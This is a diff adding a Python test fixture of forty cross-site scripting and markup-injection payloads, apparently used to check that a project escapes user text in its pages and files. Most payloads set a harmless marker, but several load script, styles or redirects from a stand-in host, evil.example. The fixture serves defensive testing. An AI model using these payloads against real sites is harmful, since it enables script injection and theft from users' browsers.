@@ -1,0 +1,48 @@
+"""Forty texts that try to become markup, a link, a script or another text: for every page and file we write."""
+
+SAID = "xssxss"
+"""What a payload that is carried out would leave as a property of the window."""
+
+PAYLOADS = (
+    f"<script>window.{SAID}=1</script>",
+    f"<SCRIPT SRC=https://evil.example/{SAID}.js></SCRIPT>",
+    f"<img src=x onerror=window.{SAID}=1>",
+    f'<img src="https://evil.example/{SAID}.png">',
+    f"<svg onload=window.{SAID}=1>",
+    f"<svg><script>window.{SAID}=1</script></svg>",
+    f"</title><script>window.{SAID}=1</script>",
+    f"</style><script>window.{SAID}=1</script>",
+    f"</text></svg><script>window.{SAID}=1</script>",
+    f"</desc><foreignObject><body onload=window.{SAID}=1>",
+    f'" onmouseover="window.{SAID}=1" x="',
+    f"' onfocus='window.{SAID}=1' autofocus='",
+    f'" autofocus tabindex=0 onfocus=window.{SAID}=1 x="',
+    f"--><script>window.{SAID}=1</script><!--",
+    f"<![CDATA[<script>window.{SAID}=1</script>]]>",
+    f"]]><script>window.{SAID}=1</script>",
+    f"<?xml version='1.0'?><?php window.{SAID}=1 ?>",
+    f"<!DOCTYPE html><html onclick=window.{SAID}=1>",
+    f"&lt;script&gt;window.{SAID}=1&lt;/script&gt;",
+    f"&#60;script&#62;window.{SAID}=1&#60;/script&#62;",
+    f"&#x3c;img src=x onerror=window.{SAID}=1&#x3e;",
+    f"javascript:window.{SAID}=1",
+    f"jAvAsCrIpT:window.{SAID}=1//https://un.org",
+    f"data:text/html,<script>window.{SAID}=1</script>",
+    f"<a href=javascript:window.{SAID}=1>press</a>",
+    f"<iframe src=javascript:window.{SAID}=1></iframe>",
+    f"<iframe srcdoc='<script>parent.{SAID}=1</script>'>",
+    f"<object data=https://evil.example/{SAID}></object>",
+    f"<link rel=stylesheet href=https://evil.example/{SAID}.css>",
+    f"<meta http-equiv=refresh content='0;url=https://evil.example/{SAID}'>",
+    f"<base href=https://evil.example/{SAID}/>",
+    f"<form action=https://evil.example/{SAID}><button>send</button></form>",
+    f"<style>@import 'https://evil.example/{SAID}.css'</style>",
+    f"<details open ontoggle=window.{SAID}=1>",
+    f"[press](javascript:window.{SAID}=1) ![x](https://evil.example/{SAID}.png)",
+    f"# a heading\n\n- a list\n\n```\n<b>{SAID}</b>\n```\n| a | b |\n|---|---|",
+    f"**bold** _it_ `code` ~~gone~~ <https://evil.example/{SAID}> [a]: https://evil.example/{SAID}",
+    f"\u202egnp.{SAID}\u2066 \u2069 turned \u202d round\u202c",
+    f"\x07\x1b[31m{SAID}\x1b]8;;https://evil.example/\x07 bell \x7f\x9b",
+    f"{{{{ {SAID} }}}} ${{{SAID}}} <%= {SAID} %> \\\"\\'\\`",
+)
+assert len(set(PAYLOADS)) == 40
